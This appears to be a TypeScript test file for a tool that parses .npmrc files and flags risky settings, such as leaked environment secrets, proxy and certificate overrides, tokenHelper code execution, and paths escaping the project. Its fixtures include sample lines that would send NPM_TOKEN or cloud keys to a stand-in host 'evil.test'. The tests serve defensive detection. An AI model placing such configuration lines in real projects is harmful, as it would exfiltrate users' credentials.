import assert from 'node:assert/strict';
import { parse } from 'ini';
import { namesStrangeVariable, parseNpmrc, riskySettings } from '../../../src/model/npmrc.ts';
import { leadsOutside } from '../../../src/managers/outside.ts';

describe('an .npmrc', () => {
  it('is read as the ini package reads it', () => {
    const text = '; no\n# no\n[section]\r\na = 1 ; why\n"b"="x;y"\n\'c\' = \'z\'\nd[] = 1\nflag\n//h/:_authToken=t=\n';
    assert.deepEqual(
      parseNpmrc(text).map(({ key, value }) => `${key}: ${value}`),
      ['a: 1', 'b: x;y', 'c: z', 'd: 1', 'flag: true', '//h/:_authToken: t='],
    );
  });

  it('is read as ini hides a name, and as others may read it', () => {
    const lines = ['cache#x=/a', '\'"cache"\'=/a', 'ca\\che=1', 'a=1\\;2;3', "'x'=1", 'b=c;d', '=x', '[s]=1', "'='"];
    assert.deepEqual(
      lines.map((line) => parseNpmrc(line).map(({ key, value }) => `${key}: ${value}`)),
      [
        ['cache#x: /a', 'cache: /a'],
        ['"cache": /a', 'cache: /a'],
        ['ca\\che: 1'],
        ['a: 1\\;2;3', 'a: 1;2'],
        ['x: 1'],
        ['b: c;d', 'b: c'],
        [],
        ['[s]: 1'],
        ["': '", ': '],
      ],
    );
  });

  it('is read as the ini package itself does, but for what others read in it', () => {
    const parts = ['a', '"', "'", ';', '#', '\\', ' ', '[]', '${X}', '//h/:k', '1', 'true'];
    for (let seed = 0; seed < 4000; seed++) {
      const pick = (at: number): string => parts[(seed * 7919 + at * 104729 + (seed >> at)) % parts.length] ?? '';
      const line = `${pick(1)}${pick(2)}${pick(3)}=${pick(4)}${pick(5)}${pick(6)}`;
      const [key, value] = Object.entries(parse(line))[0] ?? [];
      const ours = parseNpmrc(line).at(-1);
      assert.deepEqual([ours?.key, ours?.value], [key, value === undefined ? value : String(value)], line);
    }
  });

  const table: readonly (readonly [line: string, effect: string | undefined])[] = [
    ['registry=https://example.com/', undefined],
    ['//example.com/:_authToken=abc', undefined],
    ['//example.com/:_authToken=${AWS_SECRET_ACCESS_KEY}', 'sends-secrets'],
    ['registry=https://example.com/${HOME}/', 'sends-secrets'],
    ['${HOME}=1', 'sends-secrets'],
    ['ca${NPM_X?}che=/out', 'sends-secrets'],
    ['strict-s${NPM_X?}sl=false', 'sends-secrets'],
    ['//example.com/:cert${NPM_X-file}=/x', 'sends-secrets'],
    ['//${NPM_HOST}:4873/npm/:_authToken=abc', undefined],
    ['//example.com/:cert${NPM_X:-file}=/x', 'sends-secrets'],
    ['${NPM_X}//example.com/:_authToken=abc', 'sends-secrets'],
    ['proxy=http://example.com', 'sends-secrets'],
    ['proxy=false', undefined],
    ['noproxy=example.com', 'sends-secrets'],
    ['noproxy[]=example.com', 'sends-secrets'],
    ['no-proxy=example.com', 'sends-secrets'],
    ['noproxy=', undefined],
    ['local-address=192.0.2.2', 'sends-secrets'],
    ['ca=x', 'sends-secrets'],
    ['cafile=/x', 'sends-secrets'],
    ['cert=x', 'sends-secrets'],
    ['key=x', 'sends-secrets'],
    ['//example.com/:certfile=/x', 'sends-secrets'],
    ['strict-ssl=true', undefined],
    ['strict-ssl=0', 'sends-secrets'],
    ['ca[]=x', 'sends-secrets'],
    ['//example.com/:keyfile=/x', 'sends-secrets'],
    ['tokenHelper=/x', 'runs-code'],
    ['//example.com/:tokenHelper=/x', 'runs-code'],
  ];
  for (const [line, effect] of table) {
    it(`${line}: ${effect ?? 'nothing'}`, () => {
      assert.deepEqual(
        riskySettings(parseNpmrc(line)).map((risky) => risky.effect),
        effect === undefined ? [] : [effect],
      );
    });
  }

  const sent: readonly (readonly [text: string, sends: readonly string[]])[] = [
    ['//example.com/:_authToken=${NPM_TOKEN}', ['NPM_TOKEN example.com']],
    ['//Example.com:4873/npm/:_password=${CI_JOB_TOKEN}', ['CI_JOB_TOKEN example.com:4873']],
    ['//example.com/:_authToken=${NPM_TOKEN-none}', ['NPM_TOKEN example.com']],
    ['//evil.test/:_authToken=https://example.com/${NPM_TOKEN}', ['NPM_TOKEN evil.test']],
    ['registry=https://example.com/${NPM_TOKEN}/', ['NPM_TOKEN example.com']],
    ['registry=https://${NPM_TOKEN}.evil.test/', ['NPM_TOKEN ${npm_token}.evil.test']],
    ['registry=https://${NPM_TOKEN}@evil.test/', ['NPM_TOKEN evil.test']],
    ['registry=https://${NPM_HOST:-evil.test}/${NPM_TOKEN}', ['NPM_HOST', 'NPM_TOKEN']],
    [
      'registry=https://a.test/\n@s:registry=https://b.test\n_authToken=${NPM_TOKEN}',
      ['NPM_TOKEN a.test', 'NPM_TOKEN b.test'],
    ],
    // Where it goes is in the user's own hands.
    ['_authToken=${NPM_TOKEN}', []],
    ['registry=${NPM_REGISTRY}', []],
    ['registry=https://${NPM_HOST}/${NPM_TOKEN}', []],
    ['//${NPM_HOST}:4873/:_authToken=${NPM_TOKEN}', []],
  ];
  for (const [text, expected] of sent) {
    it(`sends ${expected.join(' and ') || 'nothing'} by ${JSON.stringify(text)}`, () => {
      const found = riskySettings(parseNpmrc(text)).flatMap(({ sends = [] }) => sends);
      const said = found.map(({ variable, host }) => `${variable} ${host}`);
      assert.deepEqual(
        said.map((each, at) => (expected[at]?.includes(' ') === false ? each.split(' ')[0] : each)),
        expected,
      );
    });
  }

  it('may name variables without braces, where those are read', () => {
    assert.deepEqual(
      ['$HOME', '$npm_token', 'a$b', 'plain'].map((text) => namesStrangeVariable(text, true)),
      [true, false, true, false],
    );
    assert.equal(namesStrangeVariable('$HOME'), false);
  });
});

describe('a path', () => {
  it('leads outside where it may', () => {
    const outside = ['..', '../x', 'a/../../x', '/x', '~/x', '~', 'C:\\x', 'C:/x', '..\\x', '\\\\host\\x', '${HOME}/x'];
    assert.deepEqual(
      outside.filter((path) => !leadsOutside(path)),
      [],
    );
    assert.deepEqual(['x', './x', 'a/../x', '.x/y', ''].filter(leadsOutside), []);
  });
});
